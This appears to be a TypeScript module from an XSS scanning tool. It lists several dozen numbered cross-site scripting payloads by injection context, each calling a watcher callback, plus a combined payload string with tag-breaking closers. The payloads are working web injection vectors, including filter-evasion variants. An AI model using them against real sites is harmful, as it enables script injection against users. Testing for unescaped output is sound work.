/** Where a payload would run if a page inserted it unescaped. */
export type Place =
  | 'body'
  | 'link'
  | 'quoted attribute'
  | 'single-quoted attribute'
  | 'title'
  | 'textarea'
  | 'style'
  | 'comment'
  | 'frame'
  | 'single-quoted script'
  | 'double-quoted script'
  | 'template literal'
  | 'mustache'
  | 'decoded HTML'
  | 'decoded URI'
  | 'decoded escapes';

export interface Payload {
  /** Calls `q(number)`, which notifies the watcher. */
  text: string;
  number: number;
  place: Place;
}

const TEXTS: Partial<Record<Place, string[]>> = {
  body: [
    '<script>q()</script>',
    '<script type=module>q()</script>',
    '<script src=data:text/javascript,q()></script>',
    '<img src=x onerror=q()>',
    '<IMG SRC=x OnErRoR=q()>',
    '<img/src/onerror=q()>',
    '<img src=x onerror\n=\nq()>',
    '<img src=x onerror="&#113;()">',
    '<img src=x onerror=eval(atob("q()"))>',
    '<img src=x onerror=alert("q()")>',
    '<img srcset=x onerror=q()>',
    '<image src=x onerror=q()>',
    '<svg onload=q()>',
    '<svg/onload=q()>',
    '<svg><script>q()</script></svg>',
    '<svg><script>q&#40;) </script></svg>',
    '<svg><animate onbegin=q() attributeName=x dur=1s>',
    '<svg><set onbegin=q() attributeName=x>',
    '<svg><foreignObject><img src=x onerror=q()></svg>',
    '<svg><style><img src=x onerror=q()></style></svg>',
    '<math><mtext><img src=x onerror=q()></math>',
    '<noscript><p title="</noscript><img src=x onerror=q()>">',
    '<body onload=q()>',
    '<body onpageshow=q()>',
    '<iframe onload=q()></iframe>',
    '<iframe src=javascript:q()></iframe>',
    '<iframe srcdoc="<script>q()</script>"></iframe>',
    '<video src=x onerror=q()></video>',
    '<video><source onerror=q()></video>',
    '<audio src=x onerror=q()>',
    '<object data=x onerror=q()></object>',
    '<details open ontoggle=q()>',
    '<input autofocus onfocus=q()>',
    '<select autofocus onfocus=q()>',
    '<textarea autofocus onfocus=q()>',
    '<b contenteditable autofocus onfocus=q()>b',
    '<style onload=q()></style>',
    '<style>@keyframes a{}</style><i style=animation:a onanimationstart=q()>i',
    '<link rel=stylesheet href=data:text/css, onload=q()>',
    '<div><template shadowrootmode=open><img src=x onerror=q()></template></div>',
    ']]><svg onload=q()>',
    '<button onclick=q()>x</button>',
    '<form action=javascript:q()><button>x</button></form>',
    '<form><button formaction=javascript:q()>x</button></form>',
    '<a href="java&#9;script:q()">x</a>',
    '<a href=JaVaScRiPt:q()>x</a>',
    '<a href="&#1;javascript:q()">x</a>',
  ],
  link: ['javascript:q()', 'javascript://%0aq()'],
  frame: ['data:text/html,<script>q()</script>'],
  'quoted attribute': ['"><img src=x onerror=q()>', '" autofocus onfocus=q() "'],
  'single-quoted attribute': ["'><svg onload=q()>"],
  title: ['</title><svg onload=q()>'],
  textarea: ['</textarea><svg onload=q()>'],
  style: ['</style><svg onload=q()>'],
  comment: ['--><svg onload=q()>'],
  'single-quoted script': ["';q()//", '</script><script>q()</script>'],
  'double-quoted script': ['"-q()-"'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a payload for other template languages.
  'template literal': ['${q()}'],
  mustache: ["{{constructor.constructor('q()')()}}"],
  'decoded HTML': ['&lt;img src=x onerror=q()&gt;'],
  'decoded URI': ['%3Cimg src=x onerror=q()%3E'],
  'decoded escapes': ['\\u003cimg src=x onerror=q()\\u003e'],
};

/** Payloads for text fields, by the ways a page might run them. */
export const payloads: Payload[] = Object.entries(TEXTS)
  .flatMap(([place, texts]) => texts.map((text) => ({ text, place: place as Place })))
  .map(({ text, place }, index) => ({ text: numbered(text, index + 1), number: index + 1, place }));

function numbered(text: string, number: number): string {
  if (text.includes('atob')) return text.replace('q()', btoa(`q(${number})`));
  return text
    .replace('q()', `q(${number})`)
    .replace('q&#40;)', `q&#40;${number})`)
    .replace('&#113;()', `&#113;(${number})`);
}

/** All payloads in one text, each closed before the next, for fields without a length limit. */
export const everyPayload = payloads
  .map(({ text }) => text)
  .join(`\n--></script></style></title></textarea></svg></math>">'>\n`);
